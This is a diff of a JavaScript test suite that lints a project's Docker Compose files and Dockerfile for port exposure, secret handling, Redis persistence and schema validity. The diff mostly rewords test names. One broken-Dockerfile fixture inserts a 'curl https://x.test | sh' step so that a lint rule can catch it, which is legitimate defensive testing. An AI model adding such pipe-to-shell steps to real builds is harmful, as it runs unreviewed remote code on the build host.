@@ -1,4 +1,4 @@
-// docker-compose.*.yml and Dockerfile as data: they follow the rules, and each rule finds what breaks it.
+// The compose files and the Dockerfile follow our rules, and each rule detects a fault.
 import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
@@ -22,15 +22,15 @@ const SECRETS = {
   MALOTE_KEY: "chave",
 };
 
-/** A variable as compose files write it. @param {string} name */
+/** A variable in the syntax of compose files. @param {string} name */
 const asked = (name) => `\${${name}}`;
 
-/** dclint holds the files against the schema of Compose; its rules of taste are off. @param {string} file */
+/** Validates a file against the Compose schema with dclint, without style rules. @param {string} file */
 function lintBySchema(file) {
   const off = [
     ...["service-keys-order", "services-alphabetical-order", "service-dependencies-alphabetical-order"],
     ...["service-ports-alphabetical-order", "top-level-properties-order"],
-    // It does not read ${FEED_HOST:-127.0.0.1}; our own rule does.
+    // dclint does not understand ${FEED_HOST:-127.0.0.1}; our own rule does.
     "no-unbound-port-interfaces",
   ];
   const quotes = /** @type {const} */ ([2, { quoteType: "double" }]);
@@ -44,17 +44,17 @@ describe("the rules", () => {
   test.each([
     ["docker-compose.yml", [FILES[0]]],
     ["with all others", FILES],
-  ])("are kept: %s", (_, files) => {
+  ])("are followed: %s", (_, files) => {
     expect(lintCompose(readCompose(...files))).toEqual([]);
   });
 
-  test("are kept by the Dockerfile", () => expect(lintDockerfile(dockerfile)).toEqual([]));
+  test("are followed by the Dockerfile", () => expect(lintDockerfile(dockerfile)).toEqual([]));
 
-  test("every setting of .env.example reaches the containers that need it, and compose asks for no other", () => {
+  test("every setting of .env.example reaches the containers that need it, and compose uses no other", () => {
     expect(lintSettings(whole, example)).toEqual([]);
   });
 
-  test.each(FILES)("the schema of Compose knows every key: %s", (file) => {
+  test.each(FILES)("every key is in the schema of Compose: %s", (file) => {
     expect(lintBySchema(at(file))).toEqual([]);
   });
 
@@ -89,13 +89,13 @@ describe("the rules", () => {
     ],
     [/among the arguments/, { command: ["redis-server", "--requirepass", asked("REDIS_PASSWORD")] }],
   ];
-  test.each(BROKEN)("%s: found in %j", (fault, broken) => {
+  test.each(BROKEN)("report %s for %j", (fault, broken) => {
     const { http, ...others } = compose.services;
     const faults = lintCompose({ ...compose, services: { ...others, http: { ...http, ...broken } } });
     expect(faults).toEqual([expect.stringMatching(fault)]);
   });
 
-  test("a setting that reaches no container, one that should not, and one that nobody explains: found", () => {
+  test("report a setting that reaches no container, a wrong container, or has no explanation", () => {
     expect(lintSettings(whole, `${example}\n#SMTP_NOVO=\n`)).toEqual(
       OURS.map((name) => `SMTP_NOVO: does not reach ${name}`),
     );
@@ -121,7 +121,7 @@ describe("the rules", () => {
     [/recommended/, dockerfile.replace("--no-install-recommends", "")],
     [/lists of apt-get/, dockerfile.replace(" && rm -rf /var/lib/apt/lists/*", "")],
     [/run unseen/, dockerfile.replace("USER node", "RUN curl https://x.test | sh\nUSER node")],
-  ])("of the Dockerfile, %s: found", (fault, broken) => {
+  ])("report %s in a Dockerfile", (fault, broken) => {
     const [first, ...more] = new Set(
       lintDockerfile(broken).map((found) => found.replace(/^FROM \S+/, "FROM")),
     );
@@ -129,14 +129,14 @@ describe("the rules", () => {
     expect(more.every((other) => other.startsWith("FROM"))).toBe(true);
   });
 
-  describe("of the schema", () => {
+  describe("the schema", () => {
     let folder = "";
     beforeAll(() => {
       folder = fs.mkdtempSync(path.join(os.tmpdir(), "malote-compose-"));
     });
     afterAll(() => fs.rmSync(folder, { recursive: true }));
 
-    test("a key that Compose does not know: found", () => {
+    test("refuses a key that Compose does not know", () => {
       const file = path.join(folder, "docker-compose.yml");
       const text = fs.readFileSync(at(FILES[0]), "utf8");
       fs.writeFileSync(file, text.replace("pids_limit:", "pid_limits:"));
@@ -146,13 +146,13 @@ describe("the rules", () => {
 });
 
 describe("docker-compose.yml", () => {
-  test("has the services of production, backup only when it is asked for, and no sandbox", () => {
+  test("has the services of production, backup only by profile, and no sandbox", () => {
     expect(Object.keys(compose.services)).toEqual(["postgres", "redis", ...OURS]);
     expect(compose.services.backup.profiles).toEqual(["backup"]);
     expect(JSON.stringify(compose)).not.toMatch(/sandbox/i);
   });
 
-  test("waits for health: database, then setup, then the others", () => {
+  test("orders the start: database, then setup, then the others", () => {
     expect(compose.services.setup.depends_on.postgres.condition).toBe("service_healthy");
     for (const name of ["http", "worker", "backup"]) {
       expect(compose.services[name].depends_on).toEqual({
@@ -162,7 +162,7 @@ describe("docker-compose.yml", () => {
     }
   });
 
-  test("the queue loses nothing: append-only file, no eviction, a volume", () => {
+  test("keeps the queue: append-only file, no eviction, a volume", () => {
     const command = compose.services.redis.command.join(" ");
     expect(command).toContain("--appendonly yes");
     expect(command).toContain("--maxmemory-policy noeviction");
@@ -170,7 +170,7 @@ describe("docker-compose.yml", () => {
     expect(compose.services.redis.healthcheck.test.join(" ")).toContain("grep -q PONG");
   });
 
-  test("database and blobs live in volumes that are declared, backups in a folder of the operator's", () => {
+  test("keeps database and blobs in declared volumes, and backups in a folder of the operator", () => {
     expect(compose.services.postgres.volumes).toEqual(["database:/var/lib/postgresql"]);
     for (const name of OURS) expect(compose.services[name].volumes[0]).toEqual("blobs:/dados");
     const used = Object.values(whole.services)
@@ -181,7 +181,7 @@ describe("docker-compose.yml", () => {
     expect(interpolate(backups, { BACKUP_PASTA: "/mnt/outro-disco" })).toBe("/mnt/outro-disco:/backups");
   });
 
-  /** A file of the operator's: the variable, where the container finds it, and the secret that mounts it. */
+  /** Files that the operator may provide: variable and name of the secret that mounts it. */
   const GIVEN_FILES = [
     ["MALOTE_KEY_ARQUIVO", "malote_key"],
     ["SEFAZ_PFX", "sefaz_pfx"],
@@ -190,7 +190,7 @@ describe("docker-compose.yml", () => {
     ["FEED_TLS_KEY", "feed_key"],
     ["CLIENTES_ARQUIVO", "clientes"],
   ];
-  test.each(GIVEN_FILES)("%s becomes a secret when it is given, and nothing when not", (variable, secret) => {
+  test.each(GIVEN_FILES)("%s becomes a secret if set, else /dev/null", (variable, secret) => {
     const given = { [variable]: "/etc/malote/arquivo" };
     expect(interpolate(compose.secrets[secret].file, {})).toBe("/dev/null");
     expect(interpolate(compose.secrets[secret].file, given)).toBe("/etc/malote/arquivo");
@@ -202,7 +202,7 @@ describe("docker-compose.yml", () => {
     }
   });
 
-  test("passes the folders of authorities and schemas on, read-only, when there are any", () => {
+  test("mounts the folders of authorities and schemas read-only, if set", () => {
     const given = { ICP_BRASIL_DIR: "./icp-brasil", DFE_SCHEMAS_DIR: "/srv/xsd" };
     for (const name of OURS) {
       const { environment, volumes } = compose.services[name];
@@ -218,7 +218,7 @@ describe("docker-compose.yml", () => {
     }
   });
 
-  test("asks http and worker whether they are ready, where they answer that", () => {
+  test("checks the readiness of http and worker at the right addresses", () => {
     const house = fs.readFileSync(at("apps", "server", "src", "doors", "house.ts"), "utf8");
     expect(house).toContain('house.get("/prontidao"');
     const check = (/** @type {string} */ name) => compose.services[name].healthcheck.test.join(" ");
@@ -228,7 +228,7 @@ describe("docker-compose.yml", () => {
     );
   });
 
-  test("only http is published, and only on loopback; with docker-compose.metricas.yml the measures too", () => {
+  test("publishes only http, on loopback; docker-compose.metricas.yml adds the metrics ports", () => {
     const ports = (/** @type {import("../deploy/compose-file.mjs").Compose} */ { services }, env = {}) =>
       Object.entries(services).flatMap(([name, { ports = [] }]) =>
         ports.map((/** @type {string} */ port) => `${name} ${interpolate(port, env)}`),
@@ -241,14 +241,14 @@ describe("docker-compose.yml", () => {
     ]);
   });
 
-  test("measures are off without METRICS_PORT; with it another container of the network reads them", () => {
+  test("METRICS_PORT enables metrics, for other containers of the network; without it they are off", () => {
     const { METRICS_PORT, METRICS_HOST } = compose.services.worker.environment;
     expect(interpolate(METRICS_PORT, {})).toBe("");
     expect(interpolate(METRICS_PORT, { METRICS_PORT: "1" })).toBe("9464");
     expect(METRICS_HOST).toBe("0.0.0.0");
   });
 
-  test("trusts the one proxy that a service on loopback needs, unless the operator says otherwise", () => {
+  test("trusts one proxy by default, as a service on loopback needs, unless TRUST_PROXY is set", () => {
     const { TRUST_PROXY } = compose.services.http.environment;
     expect(interpolate(TRUST_PROXY, {})).toBe("1");
     expect(interpolate(TRUST_PROXY, { TRUST_PROXY: "0" })).toBe("0");
@@ -262,7 +262,7 @@ describe("docker-compose.yml", () => {
     expect(() => interpolate(REDIS_URL, {})).toThrow("defina REDIS_PASSWORD");
   });
 
-  test("the owner's password is given to the database, to setup and to backup alone; the others are another user", () => {
+  test("gives the owner's password only to database, setup and backup; the server uses another user", () => {
     const holders = Object.keys(compose.services).filter((name) =>
       /\bPOSTGRES_PASSWORD\b/.test(JSON.stringify(compose.services[name])),
     );
